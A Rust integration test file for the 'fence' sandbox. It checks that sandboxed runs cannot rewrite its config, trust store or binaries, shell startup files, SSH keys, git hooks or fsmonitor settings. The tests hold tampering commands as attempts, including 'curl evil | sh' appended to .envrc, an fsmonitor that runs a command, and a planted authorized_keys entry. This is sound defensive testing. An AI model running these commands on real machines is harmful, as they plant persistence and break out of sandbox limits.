//! A run must not make later runs looser: fence's trust roots (its executable, its bwrap,
//! its config and trust store) and the files that run code later stay read-only whatever
//! the config allows. Every attempt is a separate run, checked from the host side.

use crate::util;

use std::ffi::OsStr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use util::{FenceCmd, Sandbox, User};

const HOME_WRITE: &str = r#"{"filesystem": {"allowWrite": ["~"]}}"#;
const WS_WRITE: &str = r#"{"filesystem": {"allowWrite": ["."]}}"#;

/// Runs each of `attempts` in its own sandbox under `cfg`, then checks that every path in
/// `unchanged` still has its content (or is still absent).
#[track_caller]
fn attempt_all(sb: &Sandbox, cfg: &Path, attempts: &[&str], unchanged: &[&Path]) {
    attempt_all_with(&|| sb.fence(), cfg, attempts, unchanged)
}

/// [`attempt_all`] with fence commands from `fence`.
#[track_caller]
fn attempt_all_with(
    fence: &dyn Fn() -> FenceCmd,
    cfg: &Path,
    attempts: &[&str],
    unchanged: &[&Path],
) {
    let before: Vec<Option<Vec<u8>>> = unchanged.iter().map(|p| std::fs::read(p).ok()).collect();
    let kinds: Vec<Option<bool>> = unchanged
        .iter()
        .map(|p| p.symlink_metadata().ok().map(|m| m.is_dir()))
        .collect();
    for script in attempts {
        let r = fence().sh(cfg, script).run();
        for ((path, content), kind) in unchanged.iter().zip(&before).zip(&kinds) {
            assert_eq!(
                &std::fs::read(path).ok(),
                content,
                "{} changed after `{script}`\n{r}",
                path.display()
            );
            assert_eq!(
                &path.symlink_metadata().ok().map(|m| m.is_dir()),
                kind,
                "{} appeared, vanished or changed kind after `{script}`\n{r}",
                path.display()
            );
        }
    }
}

/// The same fence command with `bin` as the fence binary.
fn with_fence_binary(f: FenceCmd, bin: &Path) -> FenceCmd {
    let inner = f.cmd;
    let fence = util::fence_bin().as_os_str();
    let swap = |a: &OsStr| {
        if a == fence {
            bin.as_os_str().to_owned()
        } else {
            a.to_owned()
        }
    };
    let mut cmd = Command::new(swap(inner.get_program()));
    cmd.args(inner.get_args().map(swap)).env_clear();
    if let Some(dir) = inner.get_current_dir() {
        cmd.current_dir(dir);
    }
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            cmd.env(k, v);
        }
    }
    cmd.stdin(Stdio::null());
    FenceCmd { cmd }
}

/// Copies `source` to `dest` as an executable owned by the sandbox's user.
fn install(sb: &Sandbox, source: &Path, dest: &Path) {
    sb.mkdir(dest.parent().unwrap());
    std::fs::copy(source, dest).unwrap();
    std::fs::set_permissions(dest, std::fs::Permissions::from_mode(0o755)).unwrap();
    if sb.switches_user() {
        std::os::unix::fs::chown(dest, Some(util::UNPRIVILEGED), Some(util::UNPRIVILEGED)).unwrap();
    }
}

fn trust_roots_stay_read_only_in_a_writable_home(user: User) {
    let sb = Sandbox::new(user);
    let user_config = sb.home.join(".config/fence/fence.json");
    sb.write(&user_config, "{}\n");
    let record = sb
        .home
        .join(".local/share/fence/trusted/0123456789abcdef.json");
    sb.write(&record, "{\"path\": \"/nowhere\", \"files\": []}\n");
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let forged = r#"{"filesystem": {"allowWrite": ["/"]}, "network": {"allowedDomains": ["*"]}}"#;
    let attempts = [
        format!("echo '{forged}' > ~/.config/fence/fence.json"),
        "rm -f ~/.config/fence/fence.json".into(),
        "mv ~/.config/fence/fence.json ~/moved.json".into(),
        "mv ~/.config/fence ~/.config/old-fence".into(),
        "mv ~/.config ~/old-config && mkdir -p ~/.config/fence && echo '{}' > ~/.config/fence/fence.json".into(),
        "echo forged > ~/.local/share/fence/trusted/0123456789abcdef.json".into(),
        "echo forged > ~/.local/share/fence/trusted/fedcba9876543210.json".into(),
        "rm -rf ~/.local/share/fence/trusted".into(),
        "mv ~/.local ~/old-local && mkdir -p ~/.local/share/fence/trusted".into(),
        format!("echo '{forged}' > ~/.fence.json"),
        format!("echo '{forged}' > ~/.fence.jsonc"),
    ];
    let attempts: Vec<&str> = attempts.iter().map(String::as_str).collect();
    let forged_record = sb
        .home
        .join(".local/share/fence/trusted/fedcba9876543210.json");
    // (`mv` of the protected file copies it and then fails to remove it: a copy is harmless.)
    let unchanged: [&Path; 7] = [
        &user_config,
        &record,
        &forged_record,
        &sb.home.join(".fence.json"),
        &sb.home.join(".fence.jsonc"),
        &sb.home.join("old-config"),
        &sb.home.join("old-local"),
    ];
    attempt_all(&sb, &cfg, &attempts, &unchanged);
    // The home itself stays writable.
    sb.fence().sh(&cfg, "echo ok > ~/normal").run().ok();
    assert!(sb.home.join("normal").is_file());
    // And the next run (no -s: the user's own config) is as tight as before.
    std::fs::remove_file(sb.home.join("normal")).unwrap();
    let r = sb.fence().args(["-c", "touch ~/normal"]).run();
    r.failed();
    assert!(!sb.home.join("normal").exists(), "{r}");
}

fn missing_config_and_trust_store_cannot_be_created(user: User) {
    let sb = Sandbox::new(user);
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let forged = r#"{"filesystem": {"allowWrite": ["~"]}}"#;
    let attempts = [
        format!("mkdir -p ~/.config/fence && echo '{forged}' > ~/.config/fence/fence.json"),
        format!("echo '{forged}' > ~/.config/fence/fence.jsonc"),
        "mkdir -p ~/.local/share/fence/trusted && echo x > ~/.local/share/fence/trusted/a.json"
            .into(),
        format!("echo '{forged}' > ~/.fence.json"),
        "mkdir -p ~/.config/git && echo '[core] fsmonitor = evil' > ~/.config/git/config".into(),
        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' > ~/.ssh/authorized_keys".into(),
        "echo '[core] fsmonitor = evil' > ~/.gitconfig".into(),
    ];
    let attempts: Vec<&str> = attempts.iter().map(String::as_str).collect();
    let config_dir = sb.home.join(".config/fence");
    let data_dir = sb.home.join(".local/share/fence");
    attempt_all(
        &sb,
        &cfg,
        &attempts,
        &[
            &config_dir.join("fence.json"),
            &config_dir.join("fence.jsonc"),
            &data_dir.join("trusted"),
            &sb.home.join(".fence.json"),
            &sb.home.join(".config/git"),
            &sb.home.join(".ssh"),
            &sb.home.join(".gitconfig"),
        ],
    );
    // fence created its own directories, private and empty, to protect them; the data
    // directory may hold fence's own host socket cache, written outside the sandbox, and
    // nothing else.
    for dir in [&config_dir, &data_dir] {
        let meta = std::fs::metadata(dir).unwrap();
        assert_eq!(
            meta.permissions().mode() & 0o777,
            0o700,
            "{}",
            dir.display()
        );
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            assert!(
                dir == &data_dir
                    && path.file_name() == Some("host-sockets.cache".as_ref())
                    && meta.is_file()
                    && meta.permissions().mode() & 0o777 == 0o600,
                "{}",
                path.display()
            );
        }
    }
    // No placeholder is left in the home.
    assert!(!sb.home.join(".fence.jsonc").exists() && !sb.home.join(".bashrc").exists());
    let r = sb.fence().args(["-c", "touch ~/probe"]).run();
    r.failed();
    assert!(!sb.home.join("probe").exists(), "{r}");
}

fn bwrap_and_fence_in_a_writable_home_cannot_be_replaced(user: User) {
    let sb = Sandbox::new(user);
    let bin = sb.home.join("bin");
    let bwrap = bin.join("bwrap");
    let fence = bin.join("fence");
    install(&sb, Path::new("/usr/bin/bwrap"), &bwrap);
    install(&sb, util::fence_bin(), &fence);
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let attempts = [
        "cp /bin/sh ~/bin/bwrap",
        "echo '#!/bin/sh' > ~/bin/bwrap",
        "rm -f ~/bin/bwrap",
        "mv ~/bin/bwrap ~/bin/bwrap.old",
        "cp /bin/sh ~/bin/fence",
        "rm -f ~/bin/fence",
        "mv ~/bin ~/bin.old && mkdir ~/bin",
        "chmod 777 ~/bin/fence ~/bin/bwrap",
    ];
    let unchanged: [&Path; 4] = [
        &bwrap,
        &fence,
        &bin.join("bwrap.old"),
        &sb.home.join("bin.old"),
    ];
    let before: Vec<u32> = [&bwrap, &fence]
        .iter()
        .map(|p| std::fs::metadata(p).unwrap().permissions().mode())
        .collect();
    let path_var = format!("{}:/usr/bin:/bin", bin.display());
    for script in attempts {
        let content: Vec<Option<Vec<u8>>> =
            unchanged.iter().map(|p| std::fs::read(p).ok()).collect();
        let r = with_fence_binary(sb.fence(), &fence)
            .env("FENCE_BWRAP", &bwrap)
            .env("PATH", &path_var)
            .sh(&cfg, script)
            .run();
        for (path, content) in unchanged.iter().zip(&content) {
            assert_eq!(
                &std::fs::read(path).ok(),
                content,
                "{} changed after `{script}`\n{r}",
                path.display()
            );
        }
    }
    let after: Vec<u32> = [&bwrap, &fence]
        .iter()
        .map(|p| std::fs::metadata(p).unwrap().permissions().mode())
        .collect();
    assert_eq!(before, after);
    // The copies still work: the sandbox runs with them.
    with_fence_binary(sb.fence(), &fence)
        .env("FENCE_BWRAP", &bwrap)
        .env("PATH", &path_var)
        .sh(&cfg, "echo ok > ~/normal")
        .run()
        .ok()
        .stderr_has("on PATH");
    assert!(sb.home.join("normal").is_file());
}

/// fence run with `/usr/bin/bwrap` (and so `/bin/bwrap`) hidden: the only bwrap is on PATH.
fn fence_with_bwrap_only_on_path(sb: &Sandbox, path_var: &str) -> FenceCmd {
    let not_executable = sb.root.join("not-bwrap");
    std::fs::write(&not_executable, "").unwrap();
    let not_executable = not_executable.display().to_string();
    let mut prefix = vec!["/usr/bin/bwrap"];
    if !util::is_root() {
        prefix.push("--unshare-user");
    }
    prefix.extend([
        "--dev-bind",
        "/",
        "/",
        "--ro-bind",
        &not_executable,
        "/usr/bin/bwrap",
        "--",
    ]);
    sb.fence().env("PATH", path_var).wrapped(&prefix)
}

fn bwrap_found_only_in_a_writable_path_directory_is_refused(user: User) {
    let sb = Sandbox::new(user);
    let bin = sb.home.join(".local/bin");
    install(&sb, Path::new("/usr/bin/bwrap"), &bin.join("bwrap"));
    let early = sb.home.join("early");
    sb.mkdir(&early);
    let path_var = format!("{}:{}:/usr/bin:/bin", early.display(), bin.display());
    let marker = sb.home.join("ran");
    let cases = [
        (HOME_WRITE, true),
        (r#"{"filesystem": {"allowWrite": ["~/early"]}}"#, true),
        (WS_WRITE, false),
    ];
    for (json, refused) in cases {
        let cfg = sb.config("cfg.json", json);
        let r = fence_with_bwrap_only_on_path(&sb, &path_var)
            .sh(&cfg, &format!("touch {}; touch ws-ran", marker.display()))
            .run();
        if refused {
            r.code(125).stderr_has("refusing to use");
            assert!(!sb.ws.join("ws-ran").exists(), "{json}\n{r}");
        } else {
            // The marker in the read-only home is not written; ws-ran is.
            r.ok()
                .stderr_has("found on PATH in a directory your user controls");
            assert!(sb.ws.join("ws-ran").exists(), "{json}\n{r}");
        }
        assert!(!marker.exists(), "{json}\n{r}");
        let _ = std::fs::remove_file(sb.ws.join("ws-ran"));
    }
}

fn allow_write_over_a_path_directory_warns(user: User) {
    let sb = Sandbox::new(user);
    let bin = sb.home.join("bin");
    sb.mkdir(&bin);
    let path_var = format!("{}:/usr/bin:/bin", bin.display());
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let r = sb.fence().env("PATH", &path_var).sh(&cfg, "true").run();
    r.ok().stderr_has("on PATH");
    assert!(r.stderr.contains(&bin.display().to_string()), "{r}");
    assert_eq!(r.stderr.matches("on PATH").count(), 1, "one line\n{r}");
    let cfg = sb.config("cfg.json", WS_WRITE);
    let r = sb.fence().env("PATH", &path_var).sh(&cfg, "true").run();
    r.ok();
    assert!(!r.stderr.contains("on PATH"), "{r}");
}

fn git_locations_stay_read_only_in_a_writable_workspace(user: User) {
    let sb = Sandbox::new(user);
    let ws = &sb.ws;
    sb.write(&ws.join(".git/HEAD"), "ref: refs/heads/main\n");
    sb.write(
        &ws.join(".git/config"),
        "[core]\n\thooksPath = tools/hooks\n[extensions]\n\tworktreeConfig = true\n\
         [include]\n\tpath = ../shared.gitconfig\n",
    );
    sb.write(&ws.join("shared.gitconfig"), "[user]\n\tname = x\n");
    sb.write(&ws.join(".envrc"), "use nix\n");
    sb.write(&ws.join("sub/dir/.vscode/tasks.json"), "{}\n");
    sb.mkdir(&ws.join(".git/hooks"));
    sb.mkdir(&ws.join("tools/hooks"));
    // A submodule with hooks, one without (not yet created), a nested one, a worktree.
    for module in ["lib", "nohooks", "lib/modules/inner"] {
        let dir = ws.join(".git/modules").join(module);
        sb.write(&dir.join("HEAD"), "ref: refs/heads/main\n");
        sb.write(&dir.join("config"), "[core]\n\tbare = false\n");
    }
    sb.mkdir(&ws.join(".git/modules/lib/hooks"));
    sb.mkdir(&ws.join(".git/modules/lib/modules/inner/hooks"));
    sb.write(&ws.join(".git/worktrees/w/commondir"), "../..\n");
    sb.write(&ws.join("lib/.git"), "gitdir: ../.git/modules/lib\n");
    let cfg = sb.config("cfg.json", WS_WRITE);
    let fsmonitor = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'";
    let attempts = [
        format!("{fsmonitor} >> .git/modules/lib/config"),
        format!("{fsmonitor} >> .git/modules/lib/modules/inner/config"),
        format!("{fsmonitor} > .git/config.worktree"),
        "echo evil > .git/modules/lib/hooks/post-checkout".into(),
        "mkdir -p .git/modules/nohooks/hooks && echo evil > .git/modules/nohooks/hooks/pre-commit"
            .into(),
        "mv .git/modules .git/modules.old".into(),
        "echo evil > .git/worktrees/w/commondir".into(),
        "mkdir -p .git/worktrees/new && echo /elsewhere > .git/worktrees/new/commondir".into(),
        "echo evil > tools/hooks/pre-commit".into(),
        "mv tools tools.old && mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit".into(),
        "echo 'gitdir: /tmp/evil' > lib/.git".into(),
        format!("{fsmonitor} >> shared.gitconfig"),
        "echo 'curl evil | sh' >> .envrc".into(),
        "echo '{\"tasks\": []}' > sub/dir/.vscode/tasks.json".into(),
        "mv sub/dir sub/dir2 && mkdir -p sub/dir/.vscode".into(),
        "rm lib/.git".into(),
    ];
    let attempts: Vec<&str> = attempts.iter().map(String::as_str).collect();
    let paths = [
        ".git/modules/lib/config",
        ".git/modules/lib/modules/inner/config",
        ".git/config.worktree",
        ".git/modules/lib/hooks/post-checkout",
        ".git/modules/nohooks/hooks",
        ".git/modules.old",
        ".git/worktrees/w/commondir",
        ".git/worktrees/new",
        "tools/hooks/pre-commit",
        "tools.old",
        "lib/.git",
        "shared.gitconfig",
        ".envrc",
        "sub/dir/.vscode/tasks.json",
        "sub/dir2",
    ]
    .map(|p| ws.join(p));
    let unchanged: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
    attempt_all(&sb, &cfg, &attempts, &unchanged);
    // The rest of the workspace stays writable.
    sb.fence().sh(&cfg, "echo ok > normal.txt").run().ok();
}

fn new_repository_in_the_working_tree_is_reported(user: User) {
    let sb = Sandbox::new(user);
    let cfg = sb.config("cfg.json", WS_WRITE);
    let r = sb
        .fence()
        .sh(
            &cfg,
            "mkdir -p a/b/.git/hooks && printf '[core]\\n\\tfsmonitor = evil\\n' > a/b/.git/config \
             && echo '{}' > a/.mcp.json && echo ok > plain.txt",
        )
        .run();
    r.ok();
    let created: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.contains("created or replaced"))
        .collect();
    assert_eq!(created.len(), 2, "{r}");
    assert!(created.iter().any(|l| l.contains("a/b/.git")), "{r}");
    assert!(created.iter().any(|l| l.contains("a/.mcp.json")), "{r}");
    // A run that creates none says nothing.
    let r = sb.fence().sh(&cfg, "echo ok > plain2.txt").run();
    r.ok();
    assert!(!r.stderr.contains("created or replaced"), "{r}");
}

fn startup_files_stay_read_only_in_a_writable_home(user: User) {
    let sb = Sandbox::new(user);
    let h = &sb.home;
    let existing = [
        ".bashrc",
        ".ssh/config",
        ".ssh/authorized_keys",
        ".config/git/config",
        ".config/fish/config.fish",
        ".gitconfig",
        ".gitconfig.local",
        ".local/share/direnv/allow/abc",
    ];
    for name in existing {
        sb.write(&h.join(name), "original\n");
    }
    std::fs::write(
        h.join(".gitconfig"),
        "[include]\n\tpath = ~/.gitconfig.local\n[includeIf \"gitdir:~/w/\"]\n\tpath = .gitconfig.work\n",
    )
    .unwrap();
    sb.write(&h.join("bash-env.sh"), "original\n");
    sb.mkdir(&h.join("zdot"));
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let attempts = [
        "echo evil >> ~/bash-env.sh",
        "echo evil > ~/zdot/.zshrc",
        "echo evil >> ~/.bashrc",
        "rm -f ~/.bashrc",
        "mv ~/.bashrc ~/.bashrc.old",
        "echo evil > ~/.bash_logout",
        "echo evil > ~/.bash_aliases",
        "echo evil > ~/.profile",
        "echo evil > ~/.zlogout",
        "echo evil > ~/.envrc",
        "mkdir -p ~/.direnv/bin",
        "echo script-shell=/tmp/evil > ~/.npmrc",
        "mkdir -p ~/.bashrc.d && echo evil > ~/.bashrc.d/x.sh",
        "mkdir -p ~/.profile.d",
        "echo evil >> ~/.ssh/config",
        "echo evil >> ~/.ssh/authorized_keys",
        "rm -rf ~/.ssh",
        "mv ~/.ssh ~/.ssh.old && mkdir ~/.ssh",
        "echo evil > ~/.ssh/rc",
        "echo evil >> ~/.config/git/config",
        "echo evil > ~/.config/git/attributes",
        "echo evil >> ~/.gitconfig.local",
        "echo evil > ~/.gitconfig.work",
        "echo evil >> ~/.config/fish/config.fish",
        "mkdir -p ~/.config/systemd/user && echo evil > ~/.config/systemd/user/x.service",
        "mkdir -p ~/.config/autostart && echo evil > ~/.config/autostart/x.desktop",
        "mkdir -p ~/.config/environment.d",
        "echo evil > ~/.local/share/direnv/allow/def",
        "echo evil > ~/.inputrc",
        "echo evil > ~/.pam_environment",
    ];
    let names = [
        "bash-env.sh",
        "zdot/.zshrc",
        ".bashrc",
        ".bashrc.old",
        ".bash_logout",
        ".bash_aliases",
        ".profile",
        ".zlogout",
        ".envrc",
        ".direnv",
        ".npmrc",
        ".bashrc.d",
        ".profile.d",
        ".ssh/config",
        ".ssh/authorized_keys",
        ".ssh.old",
        ".ssh/rc",
        ".config/git/config",
        ".config/git/attributes",
        ".gitconfig.local",
        ".gitconfig.work",
        ".config/fish/config.fish",
        ".config/systemd",
        ".config/autostart",
        ".config/environment.d",
        ".local/share/direnv/allow/def",
        ".inputrc",
        ".pam_environment",
    ]
    .map(|n| h.join(n));
    let unchanged: Vec<&Path> = names.iter().map(PathBuf::as_path).collect();
    let fence = || {
        sb.fence()
            .env("BASH_ENV", h.join("bash-env.sh"))
            .env("ZDOTDIR", h.join("zdot"))
    };
    attempt_all_with(&fence, &cfg, &attempts, &unchanged);
    sb.fence().sh(&cfg, "echo ok > ~/normal").run().ok();
    assert!(h.join("normal").is_file());
}

fn symlinked_dotfile_in_a_writable_home_is_refused(user: User) {
    let sb = Sandbox::new(user);
    let target = sb.home.join("dotfiles/bashrc");
    sb.write(&target, "original\n");
    let link = sb.home.join(".bashrc");
    std::os::unix::fs::symlink("dotfiles/bashrc", &link).unwrap();
    if sb.switches_user() {
        std::os::unix::fs::lchown(&link, Some(util::UNPRIVILEGED), Some(util::UNPRIVILEGED))
            .unwrap();
    }
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let r = sb
        .fence()
        .sh(&cfg, "rm ~/.bashrc; echo evil > ~/.bashrc")
        .run();
    r.code(125).stderr_has("symbolic link");
    assert!(r.stderr.contains(".bashrc"), "{r}");
    assert_eq!(
        std::fs::read_link(&link).unwrap(),
        Path::new("dotfiles/bashrc")
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
    // With the home read-only the link needs no pinning.
    let cfg = sb.config("cfg.json", WS_WRITE);
    sb.fence().sh(&cfg, "echo ok > out.txt").run().ok();
}

fn concurrent_runs_keep_each_others_placeholders(user: User) {
    let sb = Sandbox::new(user);
    let cfg = sb.config("cfg.json", HOME_WRITE);
    let placeholder = sb.home.join(".bashrc");
    let mut first = sb.fence().sh(&cfg, "sleep 2").cmd;
    first.stdout(Stdio::null()).stderr(Stdio::null());
    let mut first = util::spawn(&mut first);
    let start = std::time::Instant::now();
    while !placeholder.exists() {
        assert!(start.elapsed() < util::DEADLINE, "no placeholder appeared");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // The second run starts while the first runs and writes after the first has ended
    // (and removed what it could of its placeholders).
    let r = sb
        .fence()
        .sh(
            &cfg,
            "sleep 4; echo evil > ~/.bashrc; echo evil > ~/.bash_logout",
        )
        .run();
    assert!(util::wait_deadline(&mut first).success());
    r.failed().stderr_has("Read-only file system");
    for name in [".bashrc", ".bash_logout"] {
        let content = std::fs::read(sb.home.join(name)).unwrap_or_default();
        assert!(content.is_empty(), "{name} was written\n{r}");
    }
}

/// The host socket cache lets a later run reuse the scan of unchanged directories: a forged
/// one could hide a socket from that run, so it is a trust root like the trust store beside
/// it. Even with the whole home writable, the sandbox cannot write, remove or move it.
fn host_socket_cache_cannot_be_forged(user: User) {
    let sb = Sandbox::new(user);
    let cfg = sb.config("cfg.json", HOME_WRITE);
    sb.fence().sh(&cfg, "true").run().ok();
    let data_dir = sb.home.join(".local/share/fence");
    let cache = data_dir.join("host-sockets.cache");
    assert!(cache.is_file(), "the first run wrote {}", cache.display());
    let attempts = [
        "printf forged > ~/.local/share/fence/host-sockets.cache",
        "rm ~/.local/share/fence/host-sockets.cache",
        "mv ~/.local/share/fence ~/.local/share/moved",
        "ln -s /tmp/forged ~/.local/share/fence/host-sockets.cache.new && \
         mv ~/.local/share/fence/host-sockets.cache.new ~/.local/share/fence/host-sockets.cache",
    ];
    for script in attempts {
        let r = sb.fence().sh(&cfg, script).run();
        r.failed();
        let meta = cache.symlink_metadata().unwrap();
        assert!(meta.is_file(), "{script}\n{r}");
        assert!(
            !std::fs::read(&cache).unwrap().starts_with(b"forged"),
            "{script}\n{r}"
        );
        assert!(
            !sb.home.join(".local/share/moved").exists(),
            "{script}\n{r}"
        );
    }
}

both_users!(
    host_socket_cache_cannot_be_forged,
    concurrent_runs_keep_each_others_placeholders,
    trust_roots_stay_read_only_in_a_writable_home,
    missing_config_and_trust_store_cannot_be_created,
    bwrap_and_fence_in_a_writable_home_cannot_be_replaced,
    bwrap_found_only_in_a_writable_path_directory_is_refused,
    allow_write_over_a_path_directory_warns,
    git_locations_stay_read_only_in_a_writable_workspace,
    new_repository_in_the_working_tree_is_reported,
    startup_files_stay_read_only_in_a_writable_home,
    symlinked_dotfile_in_a_writable_home_is_refused,
);
